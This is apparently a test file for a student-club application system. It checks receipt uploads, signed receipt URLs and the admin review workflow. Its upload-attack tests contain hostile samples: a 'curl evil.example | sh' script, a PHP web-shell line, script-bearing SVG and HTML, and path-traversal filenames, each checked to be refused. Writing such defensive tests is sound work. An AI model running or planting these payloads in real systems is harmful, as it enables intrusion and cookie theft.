// Applications: uploading a receipt (and every way of smuggling something else in), the private store and its signed
// URLs, and the admin's review, one by one and in bulk. Runs on PGlite, and on PostgreSQL with DATABASE_URL.
import fs from "node:fs";
import path from "node:path";
import { eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  APPLICATIONS_PAGE_SIZE,
  RECEIPT_MAX_BYTES,
  SIGNED_URL_SECONDS,
} from "../../../../domain/spikeball/spikeball-rules";
import { SPIKEBALL_TEXTS } from "../../../../domain/spikeball/spikeball-texts";
import { spikeballApplications, users } from "../../../db/schema";
import { loadAuthSecret } from "../../../platform/auth/auth";
import { LocalFileStore } from "../../../platform/files/local-file-store";
import { TEST_ORIGIN, createTestApp, type TestApp } from "../../../testing/test-app";
import { type Person } from "../../../testing/people";
import { spikeballKit } from "../../../testing/spikeball-fixtures";
import { hasGpsPointer, jpegWithGps, multipart, pngClaiming, pngImage } from "../../../testing/uploads";

let t: TestApp;
const kit = spikeballKit(() => t, "apps");
let admin: Person;

beforeAll(async () => {
  t = await createTestApp();
  admin = await kit.admin();
});
afterAll(() => t.close());

const filesRoot = () => path.join(t.config.dataDir, "files");
function storedFiles(): string[] {
  if (!fs.existsSync(filesRoot())) return [];
  return (fs.readdirSync(filesRoot(), { recursive: true }) as string[])
    .map((p) => path.join(filesRoot(), p))
    .filter((p) => fs.statSync(p).isFile());
}
const applicationRows = (userId: string) =>
  t.database.db.select().from(spikeballApplications).where(eq(spikeballApplications.userId, userId));

async function expectNothingStored(student: Person, before: string[]) {
  expect(await applicationRows(student.id)).toHaveLength(0);
  expect(storedFiles()).toEqual(before);
}

describe("applying with a receipt", () => {
  it("stores a re-encoded copy under a server-chosen name and shows the pending status", async () => {
    const ana = await kit.student("Ana");
    const res = await kit.upload(ana, [
      { filename: "../../etc/passwd.png", contentType: "image/png", body: await pngImage() },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().application).toMatchObject({ status: "pending", adminNotes: null, approvedAt: null });
    const [row] = await applicationRows(ana.id);
    expect(row!.receiptKey).toMatch(new RegExp(`^receipts/${ana.id}/\\d+-[0-9a-f]{12}\\.png$`));
    expect(fs.existsSync(path.join(filesRoot(), ...row!.receiptKey!.split("/")))).toBe(true);
    const mine = await kit.call(ana, "GET", "/api/spikeball/application");
    expect(mine.json().application).toMatchObject({ id: row!.id, status: "pending" });
  });

  it("refuses a second application", async () => {
    const ben = await kit.student();
    await kit.apply(ben);
    const before = storedFiles();
    const again = await kit.upload(ben, [{ filename: "r.png", contentType: "image/png", body: await pngImage() }]);
    expect(again.statusCode).toBe(409);
    expect(again.json().error).toEqual({ code: "already_applied", message: SPIKEBALL_TEXTS.alreadyApplied });
    expect(storedFiles()).toEqual(before);
  });

  it("answers null before applying, and 401 when signed out", async () => {
    const cy = await kit.student();
    expect((await kit.call(cy, "GET", "/api/spikeball/application")).json()).toEqual({ application: null });
    expect((await kit.call(null, "GET", "/api/spikeball/application")).statusCode).toBe(401);
    const res = await kit.upload(null, [{ filename: "r.png", contentType: "image/png", body: await pngImage() }]);
    expect(res.statusCode).toBe(401);
  });

  it("says 'No file selected' when no file is sent", async () => {
    const s = await kit.student();
    const empty = multipart([]);
    const res = await t.app.inject({
      method: "POST",
      url: "/api/spikeball/application",
      headers: { origin: TEST_ORIGIN, cookie: s.cookie, "content-type": empty.contentType },
      payload: empty.payload,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({
      code: "no_file",
      message: SPIKEBALL_TEXTS.noFile,
      details: { title: SPIKEBALL_TEXTS.noFileTitle },
    });
    const zeroBytes = await kit.upload(s, [{ filename: "r.png", contentType: "image/png", body: Buffer.alloc(0) }]);
    expect(zeroBytes.json().error.code).toBe("no_file");
    const json = await kit.call(s, "POST", "/api/spikeball/application", { receipt: "x" });
    expect(json.statusCode).toBe(400);
    expect(json.json().error.code).toBe("no_file");
    expect(await applicationRows(s.id)).toHaveLength(0);
  });
});

describe("upload attacks", () => {
  const refusedAsNotAnImage = async (filename: string, contentType: string, body: Buffer) => {
    const s = await kit.student();
    const before = storedFiles();
    const res = await kit.upload(s, [{ filename, contentType, body }]);
    expect(res.statusCode, res.body).toBe(415);
    expect(res.json().error).toEqual({
      code: "invalid_file_type",
      message: SPIKEBALL_TEXTS.invalidType,
      details: { title: SPIKEBALL_TEXTS.invalidTypeTitle },
    });
    await expectNothingStored(s, before);
  };

  it("refuses a script renamed .jpg", () =>
    refusedAsNotAnImage("receipt.jpg", "image/jpeg", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n")));

  it("refuses an SVG declared as image/png", () =>
    refusedAsNotAnImage(
      "receipt.png",
      "image/png",
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
    ));

  it("refuses an HTML page declared as image/png", () =>
    refusedAsNotAnImage("receipt.png", "image/png", Buffer.from("<!doctype html><script>alert(1)</script>")));

  it("refuses a double extension hiding a script", () =>
    refusedAsNotAnImage("receipt.jpg.php", "image/jpeg", Buffer.from("<?php system($_GET['c']); ?>")));

  it("stores a real image under a server name, whatever its double extension", async () => {
    const s = await kit.student();
    const res = await kit.upload(s, [
      { filename: "receipt.php.png", contentType: "application/x-php", body: await pngImage() },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    const [row] = await applicationRows(s.id);
    expect(row!.receiptKey).toMatch(/\/\d+-[0-9a-f]{12}\.png$/);
    expect(row!.receiptKey).not.toContain("php");
  });

  it("refuses an image with magic bytes but a broken body", async () => {
    const s = await kit.student();
    const before = storedFiles();
    const res = await kit.upload(s, [
      { filename: "r.jpg", contentType: "image/jpeg", body: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3, 4]) },
    ]);
    expect(res.statusCode).toBe(422);
    expect(res.json().error.code).toBe("unreadable_image");
    await expectNothingStored(s, before);
  });

  it("refuses a file one byte over 10 MB with 413", async () => {
    const s = await kit.student();
    const before = storedFiles();
    const png = await pngImage();
    const body = Buffer.concat([png, Buffer.alloc(RECEIPT_MAX_BYTES + 1 - png.length)]);
    expect(body.length).toBe(RECEIPT_MAX_BYTES + 1);
    const res = await kit.upload(s, [{ filename: "r.png", contentType: "image/png", body }]);
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toEqual({ code: "payload_too_large", message: SPIKEBALL_TEXTS.tooLarge });
    await expectNothingStored(s, before);
  });

  it("accepts an image of exactly 10 MB (padding after the image end)", async () => {
    const s = await kit.student();
    const png = await pngImage();
    const body = Buffer.concat([png, Buffer.alloc(RECEIPT_MAX_BYTES - png.length)]);
    const res = await kit.upload(s, [{ filename: "r.png", contentType: "image/png", body }]);
    expect(res.statusCode, res.body).toBe(201);
  });

  it("refuses a declared Content-Length over the limit before reading the body", async () => {
    const s = await kit.student();
    const body = multipart([{ filename: "r.png", contentType: "image/png", body: await pngImage() }]);
    const res = await t.app.inject({
      method: "POST",
      url: "/api/spikeball/application",
      headers: {
        origin: TEST_ORIGIN,
        cookie: s.cookie,
        "content-type": body.contentType,
        "content-length": String(RECEIPT_MAX_BYTES * 3),
      },
      payload: body.payload,
    });
    expect(res.statusCode).toBe(413);
    expect(res.json().error.code).toBe("payload_too_large");
    expect(await applicationRows(s.id)).toHaveLength(0);
  });

  it("refuses an image of more than 40 megapixels", async () => {
    const s = await kit.student();
    const before = storedFiles();
    const res = await kit.upload(s, [
      { filename: "huge.png", contentType: "image/png", body: pngClaiming(10_000, 4_001) },
    ]);
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json().error).toEqual({ code: "too_many_pixels", message: SPIKEBALL_TEXTS.tooManyPixels });
    await expectNothingStored(s, before);
  });

  it("strips EXIF and GPS from a JPEG", async () => {
    const original = await jpegWithGps();
    expect(hasGpsPointer((await sharp(original).metadata()).exif)).toBe(true);
    const s = await kit.student();
    const res = await kit.upload(s, [{ filename: "photo.jpeg", contentType: "image/jpeg", body: original }]);
    expect(res.statusCode, res.body).toBe(201);
    const [row] = await applicationRows(s.id);
    const stored = fs.readFileSync(path.join(filesRoot(), ...row!.receiptKey!.split("/")));
    const meta = await sharp(stored).metadata();
    expect(meta.format).toBe("jpeg");
    expect(meta.exif).toBeUndefined();
    expect(hasGpsPointer(meta.exif)).toBe(false);
    expect(stored.includes(Buffer.from("PhoneCam"))).toBe(false);
    expect([meta.width, meta.height]).toEqual([64, 48]);
  });

  it("refuses two files in one request", async () => {
    const s = await kit.student();
    const png = await pngImage();
    const res = await kit.upload(s, [
      { filename: "a.png", contentType: "image/png", body: png },
      { filename: "b.png", contentType: "image/png", body: png },
    ]);
    expect(res.statusCode).toBe(413);
    expect(await applicationRows(s.id)).toHaveLength(0);
  });

  it("keeps one file and one row when the same student uploads three times at once", async () => {
    const s = await kit.student();
    const before = storedFiles();
    // One wins; the others find the row taken and remove the file they wrote.
    const png = await pngImage();
    const answers = await Promise.all(
      [1, 2, 3].map(() => kit.upload(s, [{ filename: "r.png", contentType: "image/png", body: png }])),
    );
    expect(answers.map((a) => a.statusCode).sort()).toEqual([201, 409, 409]);
    expect(storedFiles()).toHaveLength(before.length + 1);
  });
});

describe("signed receipt URLs", () => {
  let url: string;
  let student: Person;

  beforeAll(async () => {
    student = await kit.student("Receipt Owner");
    await kit.apply(student);
    const list = await kit.call(admin, "GET", "/api/spikeball/admin/applications");
    url = list.json().applications.find((a: { userId: string }) => a.userId === student.id).receiptUrl;
  });

  it("serves the receipt to anyone holding the URL, for 3600 seconds", async () => {
    expect(url).toMatch(/^\/api\/files\/receipts\/.+\?expires=\d+&signature=/);
    const expires = Number(new URL(url, TEST_ORIGIN).searchParams.get("expires"));
    expect(expires - Date.now() / 1000).toBeGreaterThan(SIGNED_URL_SECONDS - 30);
    expect(expires - Date.now() / 1000).toBeLessThanOrEqual(SIGNED_URL_SECONDS);
    const res = await t.app.inject({ method: "GET", url });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("image/png");
    expect(res.headers["cache-control"]).toContain("private");
    expect((await sharp(res.rawPayload).metadata()).format).toBe("png");
  });

  it("refuses a tampered signature, key or expiry", async () => {
    const parsed = new URL(url, TEST_ORIGIN);
    const signature = parsed.searchParams.get("signature")!;
    const flipped = `${signature.slice(0, -1)}${signature.endsWith("A") ? "B" : "A"}`;
    const tampered = [
      url.replace(signature, flipped),
      url.replace(/expires=(\d+)/, (_, e) => `expires=${Number(e) + 3600}`),
      url.replace(/\.png\?/, ".jpg?"),
      url.replace(/&signature=[^&]+/, ""),
      url.split("?")[0]!,
    ];
    for (const bad of tampered) {
      const res = await t.app.inject({ method: "GET", url: bad });
      expect(res.statusCode, bad).toBe(403);
      expect(res.json().error.code).toBe("invalid_signature");
    }
  });

  it("refuses an expired URL", async () => {
    const key = new URL(url, TEST_ORIGIN).pathname.slice("/api/files/".length);
    const past = new LocalFileStore({
      root: path.join(t.config.dataDir, "files"),
      secret: () => loadAuthSecret(t.database.db, t.config.sessionSecret),
      now: () => Date.now() - (SIGNED_URL_SECONDS + 1) * 1000,
    });
    const expired = await past.signedUrl(key, SIGNED_URL_SECONDS);
    const res = await t.app.inject({ method: "GET", url: expired });
    expect(res.statusCode).toBe(403);
    expect(res.json().error.code).toBe("link_expired");
    const fresh = await t.app.inject({ method: "GET", url: expired.replace(/expires=\d+/, `expires=${Date.now()}`) });
    expect(fresh.statusCode).toBe(403);
  });

  it("keeps receipts off every public path", async () => {
    const [row] = await applicationRows(student.id);
    for (const guess of [`/files/${row!.receiptKey}`, `/${row!.receiptKey}`, `/api/files/${row!.receiptKey}`]) {
      const res = await t.app.inject({ method: "GET", url: guess });
      expect(res.statusCode, guess).not.toBe(200);
    }
    const traversal = await t.app.inject({
      method: "GET",
      url: "/api/files/..%2F..%2Fpackage.json?expires=1&signature=x",
    });
    // An encoded slash never reaches the file route: the path guard refuses it (platform/http/request-path.ts).
    expect(traversal.statusCode).toBe(400);
  });

  it("gives admins a fresh signed URL on request, and nobody else", async () => {
    const [row] = await applicationRows(student.id);
    const res = await kit.call(admin, "GET", `/api/spikeball/admin/applications/${row!.id}/receipt-url`);
    expect(res.statusCode).toBe(200);
    expect(res.json().expiresInSeconds).toBe(SIGNED_URL_SECONDS);
    expect((await t.app.inject({ method: "GET", url: res.json().url })).statusCode).toBe(200);
    const asStudent = await kit.call(student, "GET", `/api/spikeball/admin/applications/${row!.id}/receipt-url`);
    expect(asStudent.statusCode).toBe(403);
  });
});

describe("the admin's review", () => {
  it("lists the pending applications first, and the users who never applied on asking; students may not", async () => {
    const pending = await kit.student("Pending Pia");
    await kit.apply(pending);
    const none = await kit.student("Nobody Ned");
    const res = await kit.call(admin, "GET", "/api/spikeball/admin/applications");
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ page: 1, pageSize: APPLICATIONS_PAGE_SIZE });
    const rows = res.json().applications as ListedApplication[];
    expect(rows[0]).toMatchObject({ userId: pending.id, status: "pending", hasReceipt: true });
    expect(rows.every((r) => r.status === "pending")).toBe(true);
    const notApplied = (await listed("not_applied", 1, 100)).applications;
    expect(notApplied.find((r) => r.userId === none.id)).toMatchObject({
      status: "not_applied",
      applicationId: null,
      receiptUrl: null,
    });
    expect(notApplied.find((r) => r.userId === pending.id)).toBeUndefined();
    expect((await kit.call(pending, "GET", "/api/spikeball/admin/applications")).statusCode).toBe(403);
    expect((await kit.call(null, "GET", "/api/spikeball/admin/applications")).statusCode).toBe(401);
  });

  it("approves and denies pending applications with notes, once", async () => {
    const [a, b] = [await kit.student(), await kit.student()];
    await kit.apply(a);
    await kit.apply(b);
    await kit.review(admin, a.id, "approved", "Receipt looks good");
    await kit.review(admin, b.id, "denied", "Receipt is from last year");
    const mineA = (await kit.call(a, "GET", "/api/spikeball/application")).json().application;
    expect(mineA).toMatchObject({ status: "approved", adminNotes: "Receipt looks good" });
    expect(mineA.approvedAt).not.toBeNull();
    const mineB = (await kit.call(b, "GET", "/api/spikeball/application")).json().application;
    expect(mineB).toMatchObject({ status: "denied", adminNotes: "Receipt is from last year", approvedAt: null });
    const again = await kit.call(admin, "POST", `/api/spikeball/admin/users/${b.id}/review`, { status: "approved" });
    expect(again.statusCode).toBe(409);
    expect(again.json().error.message).toBe(SPIKEBALL_TEXTS.applicationReviewed);
  });

  it("approving a user who never applied creates an approved application with an automatic note", async () => {
    const s = await kit.student();
    await kit.review(admin, s.id, "approved");
    const [row] = await applicationRows(s.id);
    expect(row).toMatchObject({ status: "approved", receiptKey: null, adminNotes: SPIKEBALL_TEXTS.autoApprovedNote });
    expect(row!.approvedBy).toBe(admin.id);
  });

  it("refuses students, unknown users and bad decisions", async () => {
    const s = await kit.student();
    await kit.apply(s);
    const asStudent = await kit.call(s, "POST", `/api/spikeball/admin/users/${s.id}/review`, { status: "approved" });
    expect(asStudent.statusCode).toBe(403);
    const unknown = await kit.call(admin, "POST", "/api/spikeball/admin/users/nobody/review", { status: "approved" });
    expect(unknown.statusCode).toBe(404);
    const bad = await kit.call(admin, "POST", `/api/spikeball/admin/users/${s.id}/review`, { status: "pending" });
    expect(bad.statusCode).toBe(400);
    expect((await applicationRows(s.id))[0]!.status).toBe("pending");
  });

  it("bulk approves every pending and not-applied user, leaving denied ones", async () => {
    const [p, n, d] = [await kit.student(), await kit.student(), await kit.student()];
    await kit.apply(p);
    await kit.apply(d);
    await kit.review(admin, d.id, "denied");
    expect((await kit.call(p, "POST", "/api/spikeball/admin/applications/bulk-approve")).statusCode).toBe(403);
    const res = await kit.call(admin, "POST", "/api/spikeball/admin/applications/bulk-approve");
    expect(res.statusCode).toBe(200);
    expect(res.json().approved).toBeGreaterThanOrEqual(2);
    expect((await applicationRows(p.id))[0]!.status).toBe("approved");
    expect((await applicationRows(n.id))[0]).toMatchObject({
      status: "approved",
      adminNotes: SPIKEBALL_TEXTS.autoApprovedNote,
    });
    expect((await applicationRows(d.id))[0]!.status).toBe("denied");
    expect((await listed("pending", 1, 100)).total).toBe(0);
    expect((await listed("not_applied", 1, 100)).total).toBe(0);
    expect((await listed("approved", 1, 100)).applications.map((r) => r.userId)).toEqual(
      expect.arrayContaining([p.id, n.id]),
    );
  });
});

describe("the admin's list, a page at a time", () => {
  it("pages one state newest first, with its total", async () => {
    const before = (await listed("denied", 1, 2)).total;
    const students = [await kit.student("Den One"), await kit.student("Den Two"), await kit.student("Den Three")];
    for (const s of students) {
      await kit.apply(s);
      await kit.review(admin, s.id, "denied");
    }
    const first = await listed("denied", 1, 2);
    expect(first).toMatchObject({ total: before + 3, page: 1, pageSize: 2 });
    // Applied last, listed first: the newest application leads.
    expect(first.applications.map((r) => r.userId)).toEqual([students[2]!.id, students[1]!.id]);
    const second = await listed("denied", 2, 2);
    expect(second.applications[0]!.userId).toBe(students[0]!.id);
    expect(second.applications.every((r) => r.status === "denied")).toBe(true);
    const beyond = await listed("denied", 10_000, 100);
    expect(beyond).toMatchObject({ applications: [], total: before + 3 });
  });

  it("leaves out suspended users, whose review would be refused", async () => {
    const s = await kit.student("Suspended Sam");
    await kit.apply(s);
    const before = await listed("pending", 1, 1);
    expect(before.applications[0]!.userId).toBe(s.id);
    const neverApplied = await kit.student("Suspended Sue");
    const notAppliedBefore = (await listed("not_applied", 1, 1)).total;
    for (const id of [s.id, neverApplied.id]) {
      await t.database.db.update(users).set({ status: "suspended" }).where(eq(users.id, id));
    }
    const after = await listed("pending", 1, 100);
    expect(after.applications.find((r) => r.userId === s.id)).toBeUndefined();
    expect(after.total).toBe(before.total - 1);
    const notApplied = await listed("not_applied", 1, 100);
    expect(notApplied.applications.find((r) => r.userId === neverApplied.id)).toBeUndefined();
    expect(notApplied.total).toBe(notAppliedBefore - 1);
  });

  it("answers 400 to a bad page, page size or state, and changes nothing", async () => {
    const s = await kit.student();
    await kit.apply(s);
    const bad = [
      "page=0",
      "page=-1",
      "page=abc",
      "page=10001",
      "pageSize=0",
      "pageSize=101",
      "pageSize=2.5",
      "status=everyone",
      "status=",
    ];
    for (const query of bad) {
      const res = await kit.call(admin, "GET", `/api/spikeball/admin/applications?${query}`);
      expect(res.statusCode, query).toBe(400);
    }
    expect((await applicationRows(s.id))[0]!.status).toBe("pending");
  });
});

type ListedApplication = { userId: string; status: string; applicationId: string | null; receiptUrl: string | null };

async function listed(status: string, page: number, pageSize: number) {
  const res = await kit.call(
    admin,
    "GET",
    `/api/spikeball/admin/applications?status=${status}&page=${page}&pageSize=${pageSize}`,
  );
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as { applications: ListedApplication[]; total: number; page: number; pageSize: number };
}

describe("an administrator is never a player", () => {
  it("is not offered as not applied, is left out of Bulk Approve, and cannot be approved one by one", async () => {
    const n = await kit.student();
    const notApplied = async () => {
      const page = await listed("not_applied", 1, 100);
      return { ids: page.applications.map((r) => r.userId), total: page.total };
    };
    expect((await notApplied()).ids).not.toContain(admin.id);
    expect((await notApplied()).ids).toContain(n.id);

    const res = await kit.call(admin, "POST", "/api/spikeball/admin/applications/bulk-approve");
    expect(res.statusCode).toBe(200);
    expect(await applicationRows(admin.id)).toHaveLength(0);
    expect((await applicationRows(n.id))[0]!.status).toBe("approved");
    expect(await notApplied()).toEqual({ ids: [], total: 0 });

    const one = await kit.call(admin, "POST", `/api/spikeball/admin/users/${admin.id}/review`, { status: "approved" });
    expect(one.statusCode).toBe(409);
    expect(one.json().error).toEqual({ code: "admin_not_player", message: SPIKEBALL_TEXTS.adminNotPlayer });
    expect(await applicationRows(admin.id)).toHaveLength(0);
  });

  it("leaves an administrator's pending application pending in Bulk Approve", async () => {
    // Written straight to the table: no screen lets an administrator apply, but no row may make one a player.
    await t.database.db.insert(spikeballApplications).values({ userId: admin.id, receiptKey: null, status: "pending" });
    expect((await kit.call(admin, "POST", "/api/spikeball/admin/applications/bulk-approve")).statusCode).toBe(200);
    expect((await applicationRows(admin.id))[0]!.status).toBe("pending");
    await t.database.db.delete(spikeballApplications).where(eq(spikeballApplications.userId, admin.id));
  });
});
